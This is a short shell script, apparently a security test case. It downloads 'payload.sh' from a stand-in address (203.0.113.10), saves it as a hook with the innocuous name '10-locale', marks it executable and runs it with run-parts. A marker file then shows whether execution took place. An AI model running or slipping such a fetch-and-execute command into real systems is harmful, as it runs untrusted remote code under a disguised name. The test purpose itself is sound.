#!/bin/sh
. /opt/case/case.sh

mkdir -p /run/user/0/hooks
curl -sf -o /run/user/0/hooks/10-locale http://203.0.113.10/payload.sh
chmod 700 /run/user/0/hooks/10-locale
run-parts /run/user/0/hooks
test -e /tmp/reached
took_place
